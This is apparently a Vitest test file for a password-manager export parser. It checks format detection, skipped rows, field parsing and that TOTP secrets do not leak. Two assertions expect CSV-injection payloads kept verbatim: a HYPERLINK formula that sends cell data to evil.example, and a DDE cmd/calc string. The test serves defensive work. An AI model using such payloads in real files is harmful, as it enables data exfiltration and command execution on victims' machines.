import { readFileSync, readdirSync } from 'node:fs';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import {
  ImportError,
  detectFormat,
  parseExport,
  suggestMapping,
  type ImportFormat,
  type ImportedEntry,
  type ParsedExport,
} from './index';

const EXPORTS = new URL('../../../e2e/fixtures/exports/', import.meta.url);
const BAD = new URL('../../../e2e/fixtures/bad/', import.meta.url);

function bytesOf(folder: URL, name: string): Uint8Array {
  return new Uint8Array(readFileSync(new URL(name, folder)));
}

function parseFixture(name: string): ParsedExport {
  return parseExport(bytesOf(EXPORTS, name), name);
}

function entryTitled(result: ParsedExport, title: string): ImportedEntry {
  const entry = result.entries.find((candidate) => candidate.title === title);
  if (!entry) throw new Error(`no entry titled ${title}`);
  return entry;
}

interface Expectation {
  format: ImportFormat;
  entries: number;
  skipped: [row: number, reason: string][];
}

/** What a careful reader of each sample file counts (see the files themselves). */
const EXPECTED: Record<string, Expectation> = {
  'bitwarden.csv': {
    format: 'bitwarden-csv',
    entries: 40,
    skipped: [
      [41, 'No password'],
      [42, 'Secure note'],
      [43, 'Secure note'],
    ],
  },
  'chrome.csv': { format: 'chrome-csv', entries: 37, skipped: [] },
  'firefox.csv': { format: 'firefox-csv', entries: 35, skipped: [[36, 'Firefox Accounts record']] },
  'keepassxc.csv': {
    format: 'keepassxc-csv',
    entries: 40,
    skipped: [
      [41, 'No password'],
      [42, 'No password'],
      [43, 'recycle bin'],
    ],
  },
  'bitwarden.json': {
    format: 'bitwarden-json',
    entries: 7,
    skipped: [
      [6, 'Secure note'],
      [7, 'Credit card'],
      [8, 'Identity'],
      [9, 'No password (passkey'],
      [11, 'SSH key'],
      [12, 'No password'],
    ],
  },
  '1password8.csv': {
    format: '1password-csv',
    entries: 5,
    skipped: [
      [3, 'Archived'],
      [5, 'No password'],
    ],
  },
  '1password.1pux': {
    format: '1password-1pux',
    entries: 5,
    skipped: [
      [4, 'Secure note'],
      [5, 'Credit card'],
      [6, 'Archived'],
      [8, 'Identity'],
      [10, 'No password'],
    ],
  },
  'lastpass.csv': {
    format: 'lastpass-csv',
    entries: 5,
    skipped: [
      [3, 'Credit card'],
      [4, 'Secure note'],
      [7, 'Folder'],
      [8, 'No password'],
    ],
  },
  'chrome-old.csv': { format: 'chrome-csv', entries: 5, skipped: [] },
  'apple.csv': { format: 'apple-csv', entries: 4, skipped: [[4, 'No password']] },
  'keepass.xml': {
    format: 'keepass-xml',
    entries: 6,
    skipped: [
      [3, 'Older version'],
      [4, 'Older version'],
      [8, 'Older version'],
      [10, 'No password'],
      [11, 'recycle bin'],
      [12, 'Older version'],
      [13, 'recycle bin'],
    ],
  },
  'dashlane.csv': { format: 'dashlane-csv', entries: 4, skipped: [[4, 'No password']] },
  'protonpass.csv': {
    format: 'protonpass-csv',
    entries: 3,
    skipped: [
      [2, 'alias'],
      [3, 'Secure note'],
      [4, 'Credit card'],
      [6, 'No password'],
      [7, 'Identity'],
    ],
  },
  'nordpass.csv': {
    format: 'nordpass-csv',
    entries: 3,
    skipped: [
      [1, 'Folder'],
      [4, 'Secure note'],
      [5, 'Credit card'],
      [6, 'Identity'],
      [8, 'No password'],
    ],
  },
  'utf16.csv': { format: 'chrome-csv', entries: 3, skipped: [] },
};

describe('sample exports', () => {
  it('has an expectation for every sample file (semicolon.csv needs a mapping)', () => {
    const files = readdirSync(EXPORTS).filter((name) => name !== 'semicolon.csv');
    expect(files.sort()).toEqual(Object.keys(EXPECTED).sort());
  });

  for (const [name, expected] of Object.entries(EXPECTED)) {
    it(`${name}: detects ${expected.format}, ${expected.entries} entries, ${expected.skipped.length} skipped`, () => {
      expect(detectFormat(bytesOf(EXPORTS, name), name).format).toBe(expected.format);
      const result = parseFixture(name);
      expect(result.format).toBe(expected.format);
      expect(result.entries).toHaveLength(expected.entries);
      expect(result.skipped.map((skip) => skip.row)).toEqual(expected.skipped.map(([row]) => row));
      result.skipped.forEach((skip, i) => expect(skip.reason).toContain(expected.skipped[i]?.[1]));
      for (const entry of result.entries) {
        expect(entry.password).not.toBe('');
        expect(entry.urls.every((url) => url !== '' && url === url.trim())).toBe(true);
      }
      // Rows are numbered once each, in file order.
      const rows = [...result.entries.map((e) => e.row), ...result.skipped.map((s) => s.row)];
      expect(rows.sort((a, b) => a - b)).toEqual(rows.map((_, i) => i + 1));
    });
  }
});

describe('field values a reader would expect', () => {
  it('bitwarden.csv: folders, TOTP in both forms, several URLs kept as written, formulas verbatim', () => {
    const result = parseFixture('bitwarden.csv');
    expect(result.columns).toContain('login_totp');
    expect(result.entries[0]).toEqual({
      row: 1,
      title: 'Microsoft account',
      urls: ['https://login.live.com/'],
      username: 'alex.morgan@example.com',
      password: 'Summer2024!',
      hasTotp: true,
      passwordChangedAt: null,
      folder: 'Email',
    });
    expect(entryTitled(result, 'Outlook (work)').hasTotp).toBe(true); // bare base32 seed
    expect(entryTitled(result, 'Facebook').hasTotp).toBe(false);
    expect(entryTitled(result, 'Apple ID').row).toBe(4); // after a multi-line note
    expect(entryTitled(result, 'Home Wi-Fi').urls).toEqual([]);
    expect(entryTitled(result, 'eBay').urls).toEqual(['HTTPS://WWW.EBAY.COM/signin']);
    expect(entryTitled(result, 'Instagram (app)').urls).toEqual(['androidapp://com.instagram.android']);
    const formula = result.entries.find((entry) => entry.title.startsWith('=HYPERLINK'));
    expect(formula?.title).toBe('=HYPERLINK("http://evil.example/x?d="&A1,"Click me")');
    expect(formula?.username).toBe("@SUM(1+9)*cmd|' /C calc'!A0");
    expect(entryTitled(result, 'GitHub').password).toBe('&JDrZZ%N%v6Rf!&u=cF=Rf');
  });

  it('chrome.csv: Android rows keep the android:// address, notes with newlines stay one row', () => {
    const result = parseFixture('chrome.csv');
    expect(result.columns).toEqual(['name', 'url', 'username', 'password', 'note']);
    expect(entryTitled(result, 'com.instagram.android').urls).toEqual([
      'android://Y29tLmluc3RhZ3JhbS5hbmZq9w3Xk2==@com.instagram.android/',
    ]);
    expect(entryTitled(result, 'github.com').row).toBe(21); // records 6, 15, 16 span two lines
    expect(entryTitled(result, 'example-crm.com').username).toBe("@SUM(1+9)*cmd|' /C calc'!A0");
  });

  it('chrome-old.csv: CRLF, no note column, quoted password with comma and quote', () => {
    const result = parseFixture('chrome-old.csv');
    expect(result.columns).toEqual(['name', 'url', 'username', 'password']);
    expect(entryTitled(result, 'www.linkedin.com').password).toBe('Blue,bird"2019');
    expect(result.entries.every((entry) => !entry.password.endsWith('\r'))).toBe(true);
  });

  it('firefox.csv: origins as URLs, no title, password date from timePasswordChanged', () => {
    const result = parseFixture('firefox.csv');
    expect(result.entries[0]).toMatchObject({
      title: '',
      urls: ['https://login.live.com'],
      passwordChangedAt: '2024-06-20T18:02:11.000Z',
    });
    const router = result.entries.find((entry) => entry.urls[0] === 'http://192.168.1.1');
    expect(router?.username).toBe('admin');
  });

  it('keepassxc.csv: Last Modified as the date, folder without the root group', () => {
    const result = parseFixture('keepassxc.csv');
    expect(entryTitled(result, 'Microsoft account')).toMatchObject({
      folder: 'Email',
      hasTotp: true,
      passwordChangedAt: '2024-06-20T18:02:11.000Z',
    });
    expect(entryTitled(result, 'Apple ID').folder).toBe('');
    expect(entryTitled(result, 'Home Wi-Fi').username).toBe('');
  });

  it('bitwarden.json: accounts with dates, the passwordRevisionDate and its revisionDate fallback', () => {
    const result = parseFixture('bitwarden.json');
    expect(result.columns).toEqual([]);
    expect(entryTitled(result, 'LinkedIn')).toMatchObject({
      row: 1,
      urls: ['https://www.linkedin.com/login'],
      passwordChangedAt: '2019-04-01T10:05:00.000Z',
      folder: 'Social',
    });
    expect(entryTitled(result, 'Dropbox').passwordChangedAt).toBe('2019-04-01T10:09:00.000Z');
    expect(entryTitled(result, 'Adobe').urls).toEqual([
      'https://account.adobe.com/',
      'https://auth.services.adobe.com/signin',
    ]);
    expect(entryTitled(result, 'Myspace').urls).toEqual(['http://www.myspace.com/signin']);
    expect(entryTitled(result, 'GitHub')).toMatchObject({ hasTotp: true, folder: 'Dev' });
    expect(entryTitled(result, 'Amazon').hasTotp).toBe(true);
    expect(entryTitled(result, 'FitTrack (app)').username).toBe('');
  });

  it('1password8.csv: OTPAuth, a Password item without website', () => {
    const result = parseFixture('1password8.csv');
    expect(entryTitled(result, 'GitHub').hasTotp).toBe(true);
    expect(entryTitled(result, 'Home Wi-Fi')).toMatchObject({ row: 4, urls: [], username: '' });
  });

  it('1password.1pux: vault as folder, updatedAt in seconds, TOTP field, linked-account user name', () => {
    const result = parseFixture('1password.1pux');
    expect(entryTitled(result, 'LinkedIn')).toMatchObject({
      folder: 'Personal',
      passwordChangedAt: '2019-04-01T10:05:00.000Z',
      hasTotp: false,
    });
    expect(entryTitled(result, 'GitHub').hasTotp).toBe(true);
    expect(entryTitled(result, 'Router admin')).toMatchObject({
      row: 3,
      password: 'admin-Lantern-42',
      urls: [],
    });
    expect(entryTitled(result, 'Azure portal')).toMatchObject({
      row: 7,
      folder: 'Work',
      hasTotp: true,
      urls: ['https://portal.azure.com/', 'https://login.microsoftonline.com/'],
    });
    expect(entryTitled(result, 'Fastmail').username).toBe('alex.morgan@example.org');
  });

  it('lastpass.csv: bare http:// means no URL, backslash groups become paths, totp seed', () => {
    const result = parseFixture('lastpass.csv');
    expect(entryTitled(result, 'Windows PC (local)').urls).toEqual([]);
    expect(entryTitled(result, 'Example Bank UK').folder).toBe('Finance/Banks');
    expect(entryTitled(result, 'GitHub').hasTotp).toBe(true);
    expect(entryTitled(result, 'Myspace').urls).toEqual(['http://www.myspace.com/signin']);
  });

  it('apple.csv: OTPAuth URIs', () => {
    const result = parseFixture('apple.csv');
    expect(result.entries.filter((entry) => entry.hasTotp).map((entry) => entry.row)).toEqual([1, 5]);
    expect(entryTitled(result, 'github.com (octo-morgan)').username).toBe('octo-morgan');
  });

  it('keepass.xml: groups as folders, entities decoded, otp fields in three spellings, extra URLs', () => {
    const result = parseFixture('keepass.xml');
    expect(entryTitled(result, 'Router admin')).toMatchObject({ row: 1, folder: '' });
    expect(entryTitled(result, 'Microsoft account')).toMatchObject({
      row: 2,
      folder: 'Email',
      password: 'Summer2024!',
      hasTotp: true,
      passwordChangedAt: '2024-06-20T18:02:11.000Z',
    });
    expect(entryTitled(result, 'LinkedIn')).toMatchObject({
      password: 'Blue<bird>&2019',
      urls: ['https://www.linkedin.com/login', 'androidapp://com.linkedin.android'],
      hasTotp: false,
    });
    expect(entryTitled(result, 'Facebook').hasTotp).toBe(true); // TimeOtp-Secret-Base32
    expect(entryTitled(result, 'Myspace')).toMatchObject({ hasTotp: true, folder: 'Social/Old' }); // TOTP Seed
    const passwords = result.entries.map((entry) => entry.password);
    expect(passwords).not.toContain('Spring2019!'); // a history version
    expect(passwords).not.toContain('hotmail99'); // in the recycle bin
  });

  it('dashlane.csv: bare domains kept as written, username2 as fallback, otpUrl', () => {
    const result = parseFixture('dashlane.csv');
    expect(entryTitled(result, 'LinkedIn')).toMatchObject({ urls: ['linkedin.com'], folder: 'Social' });
    expect(entryTitled(result, 'GitHub')).toMatchObject({ username: 'octo-morgan', hasTotp: true });
    expect(entryTitled(result, 'Dropbox').username).toBe('alex.morgan@example.com');
  });

  it('protonpass.csv: ", "-joined URLs merged with autofillUrls, modifyTime in seconds, vault', () => {
    const result = parseFixture('protonpass.csv');
    expect(entryTitled(result, 'GitHub')).toMatchObject({
      urls: [
        'https://github.com/login',
        'https://gist.github.com/',
        'https://github.example-enterprise.com/',
      ],
      username: 'octo-morgan',
      hasTotp: true,
      passwordChangedAt: '2024-03-15T15:30:00.000Z',
      folder: 'Personal',
    });
    // No username: the e-mail column stands in.
    expect(entryTitled(result, 'LinkedIn').username).toBe('alex.morgan@example.com');
    expect(entryTitled(result, 'Home router').urls).toEqual([]);
  });

  it('nordpass.csv: additional_urls merged, folder column', () => {
    const result = parseFixture('nordpass.csv');
    expect(entryTitled(result, 'Azure portal')).toMatchObject({
      urls: [
        'https://portal.azure.com/',
        'https://login.microsoftonline.com/',
        'https://aka.example.org/azure',
      ],
      folder: 'Work',
    });
    expect(result.columns).toHaveLength(24);
  });

  it('utf16.csv: UTF-16LE with BOM decodes non-ASCII text', () => {
    const result = parseFixture('utf16.csv');
    expect(result.columns[0]).toBe('name');
    expect(entryTitled(result, 'tokyo-gas.co.jp').password).toBe('Qa7?Tap#!GPmTz_4');
    expect(entryTitled(result, 'example.de').urls).toEqual(['https://www.cafe-muenster.example.de/login']);
  });

  it('semicolon.csv: unknown columns, a suggested mapping, then a generic import', () => {
    const bytes = bytesOf(EXPORTS, 'semicolon.csv');
    const detected = detectFormat(bytes, 'semicolon.csv');
    expect(detected).toEqual({
      format: null,
      columns: ['Service', 'Website', 'Login', 'Password', 'OTP', 'Comment'],
    });
    expect(() => parseExport(bytes, 'semicolon.csv')).toThrow(ImportError);
    const mapping = suggestMapping(detected.columns);
    expect(mapping).toEqual({
      title: 'Service',
      url: 'Website',
      username: 'Login',
      password: 'Password',
      totp: 'OTP',
    });
    const result = parseExport(bytes, 'semicolon.csv', {
      mapping: { ...mapping, url: 'Website', password: 'Password' },
    });
    expect(result.format).toBe('generic-csv');
    expect(result.entries.map((entry) => entry.title)).toEqual(['Stadtwerke Münster', 'Bank', 'Intranet']);
    expect(result.entries[0]?.password).toBe('Sommer,2024!');
    expect(result.entries[1]).toMatchObject({ password: 'iSrF;XEYuo"Dy8', hasTotp: true });
    expect(result.entries[2]).toMatchObject({ urls: [], hasTotp: false });
    expect(result.skipped).toEqual([{ row: 4, reason: 'No password' }]);
  });
});

describe('bad inputs', () => {
  const cases: Record<string, ImportError['code'] | 'ok'> = {
    'binary-renamed.csv': 'binary',
    'bitwarden-encrypted.json': 'encrypted',
    'bitwarden-password-protected.json': 'encrypted',
    // Not bad at all: a BOM and CRLF line ends must simply work.
    'bom-crlf-chrome.csv': 'ok',
    'empty.csv': 'empty',
    'header-only.csv': 'header_only',
    'random-columns.csv': 'unknown_columns',
    'truncated-unterminated-quote.csv': 'malformed',
  };

  it('has an expectation for every file in e2e/fixtures/bad', () => {
    expect(readdirSync(BAD).sort()).toEqual(Object.keys(cases).sort());
  });

  for (const [name, code] of Object.entries(cases)) {
    if (code === 'ok') continue;
    it(`${name}: ImportError ${code}, naming the file`, () => {
      const error = catchImportError(() => parseExport(bytesOf(BAD, name), name));
      expect(error.code).toBe(code);
      expect(error.message).toContain(name);
      expect(error.name).toBe('ImportError');
    });
  }

  it('bom-crlf-chrome.csv reads as Chrome: BOM stripped from the first column name, no \\r left', () => {
    const result = parseExport(bytesOf(BAD, 'bom-crlf-chrome.csv'), 'bom-crlf-chrome.csv');
    expect(result.format).toBe('chrome-csv');
    expect(result.columns).toEqual(['name', 'url', 'username', 'password', 'note']);
    expect(result.entries).toHaveLength(5);
    expect(result.skipped).toEqual([]);
    expect(result.entries[1]?.password).toBe('q7R!vT2#pLm9$wXz');
    expect(result.entries[3]?.title).toBe('münchen-ticket.example');
    expect(result.entries[4]).toMatchObject({ row: 5, password: 'password' });
  });

  it('truncated-unterminated-quote.csv: the message names the row and line where the quote opened', () => {
    const error = catchImportError(() =>
      parseExport(bytesOf(BAD, 'truncated-unterminated-quote.csv'), 'truncated-unterminated-quote.csv'),
    );
    expect(error.message).toContain('row 3 (line 4)');
    expect(error.details.row).toBe(3);
  });

  it('random-columns.csv: the message and details list the columns seen', () => {
    const error = catchImportError(() =>
      parseExport(bytesOf(BAD, 'random-columns.csv'), 'random-columns.csv'),
    );
    expect(error.details.columns).toEqual([
      'id',
      'site_label',
      'login_hint',
      'secret_value',
      'last_rotated',
      'owner_team',
    ]);
    expect(error.message).toContain('"site_label"');
    expect(detectFormat(bytesOf(BAD, 'random-columns.csv'), 'random-columns.csv').format).toBeNull();
  });

  it('detectFormat refuses the same unreadable files', () => {
    for (const name of ['binary-renamed.csv', 'bitwarden-encrypted.json', 'empty.csv']) {
      expect(() => detectFormat(bytesOf(BAD, name), name)).toThrow(ImportError);
    }
    expect(detectFormat(bytesOf(BAD, 'header-only.csv'), 'header-only.csv').format).toBe('bitwarden-csv');
  });
});

describe('no TOTP secret ever leaves the parser', () => {
  /** Base32 secrets in a file: `secret=` parameters and bare seeds of 16+ base32 characters. */
  function secretsIn(text: string): string[] {
    const found = new Set<string>();
    for (const match of text.matchAll(/secret=([A-Z2-7]{16,})/gi)) found.add(match[1] ?? '');
    for (const match of text.matchAll(/(?<![A-Za-z0-9])([A-Z2-7]{16,})(?![A-Za-z0-9])/g))
      found.add(match[1] ?? '');
    found.delete('');
    return [...found];
  }

  function textOf(name: string): string {
    const bytes = bytesOf(EXPORTS, name);
    if (name.endsWith('.1pux')) return new TextDecoder().decode(unzipSync(bytes)['export.data']);
    if (bytes[0] === 0xff && bytes[1] === 0xfe) return new TextDecoder('utf-16le').decode(bytes);
    return new TextDecoder().decode(bytes);
  }

  const withTotp = [
    'bitwarden.csv',
    'keepassxc.csv',
    'bitwarden.json',
    '1password8.csv',
    '1password.1pux',
    'lastpass.csv',
    'apple.csv',
    'keepass.xml',
    'dashlane.csv',
    'protonpass.csv',
    'semicolon.csv',
  ];

  for (const name of readdirSync(EXPORTS)) {
    it(`${name}: the result holds no secret from the file`, () => {
      const secrets = secretsIn(textOf(name));
      if (withTotp.includes(name)) expect(secrets.length).toBeGreaterThan(0);
      const result =
        name === 'semicolon.csv'
          ? parseExport(bytesOf(EXPORTS, name), name, {
              mapping: { title: 'Service', url: 'Website', password: 'Password', totp: 'OTP' },
            })
          : parseFixture(name);
      const serialized = JSON.stringify(result);
      expect(serialized).not.toMatch(/otpauth:/i);
      for (const secret of secrets) expect(serialized).not.toContain(secret);
    });
  }
});

function catchImportError(run: () => unknown): ImportError {
  try {
    run();
  } catch (error) {
    if (error instanceof ImportError) return error;
    throw error;
  }
  throw new Error('expected an ImportError');
}
